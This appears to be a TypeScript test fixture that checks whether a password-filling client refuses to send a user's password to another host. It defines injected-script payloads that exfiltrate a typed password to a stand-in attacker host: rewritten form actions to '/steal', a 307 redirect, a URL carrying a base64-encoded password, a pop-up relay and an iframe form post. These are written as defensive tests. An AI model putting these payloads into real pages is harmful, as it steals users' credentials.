import { consentPages, signInPage, USER } from './consent-pages.ts'
import { type Answer, page, type Service, to, type Visit } from './service.ts'

export const redirectUri = 'https://client.invalid/callback'
export const SECRET = 'c0rrect-horse-battery'
export const variables = { ...USER, CONSENT_PASSWORD: SECRET }

/** Somebody else's server: what it is sent, as it came. */
export const collector =
  (sent: string[]) =>
  ({ method, url, body }: Visit) => {
    sent.push(`${method} ${url.pathname}${url.search} ${body}`)
    const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
    return { headers, body: page('Sign in', FIELD) }
  }

export const FIELD =
  '<label>User name <input name="user"></label><label>Password <input type="password"></label>'
export const focus = (script: string) => (html: string) =>
  `${html}<script>document.querySelector('[type=password]').onfocus = () => { ${script} }</script>`
export const submit = (script: string) => (html: string) =>
  `${html}<script>document.forms[0].onsubmit = (event) => { const pw = document.querySelector('[type=password]').value; ${script} }</script>`

type Alter = (html: string, abroad: string) => string
type Instead = Readonly<Record<string, (visit: Visit) => Answer>>

/** A consent service whose log-in page is altered, and whose user has a password that is told from all other text. */
export function pagesWith(alter: Alter, abroad: () => string, instead: Instead = {}) {
  return consentPages({
    redirectUri,
    instead: {
      'GET /sign-in': () => alter(signInPage(), abroad()),
      'POST /sign-in': () => to('/provider', 303, { 'set-cookie': 'signed-in=1; Path=/' }),
      ...instead,
    },
  })
}

/** Runs a script with what was typed before the form is sent. */
export const sending = (script: string) =>
  submit(
    `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
  )

/** Ways of a page to lead what is typed to another host, and what is said of it. */
export const WAYS: readonly (readonly [
  what: string,
  alter: Alter,
  says: string,
  instead?: (abroad: string) => Instead,
])[] = [
  [
    'a form that goes there',
    (html, abroad) => html.replace('action="/sign-in"', `action="${abroad}/steal"`),
    'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
  ],
  [
    'a form that is sent on there',
    (html) => html,
    'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
    (abroad) => ({ 'POST /sign-in': () => to(`${abroad}/steal`, 307) }),
  ],
  [
    'an address with what was typed',
    (html, abroad) =>
      submit(
        `event.preventDefault(); location.href = '${abroad}/next?x=' + encodeURIComponent(btoa('nadia:' + pw))`,
      )(html),
    'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
  ],
  [
    'a pop-up that is sent on there',
    (html) => submit(`event.preventDefault(); window.open('/on?x=' + pw)`)(html),
    'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
    (abroad) => ({ '/on': ({ url }) => to(`${abroad}/next${url.search}`) }),
  ],
  [
    'a form in a frame',
    (html, abroad) =>
      submit(
        `event.preventDefault(); document.body.innerHTML = '<iframe name=f></iframe><form target=f method=post enctype=multipart/form-data action="${abroad}/steal"><input name=x></form>'; document.forms[0].x.value = pw; document.forms[0].submit()`,
      )(html),
    'POST ABROAD for a frame with <consent_password#*> was not sent from the page at OWN',
  ],
]

export const worded = (says: string, own: Service, abroad: string) =>
  new RegExp(
    says
      .replace(/[.?()[\]/]/g, '\\$&')
      .replace('OWN', own.origin)
      .replace('ABROAD', abroad)
      .replaceAll('*', '[0-9a-f]{10}'),
  )
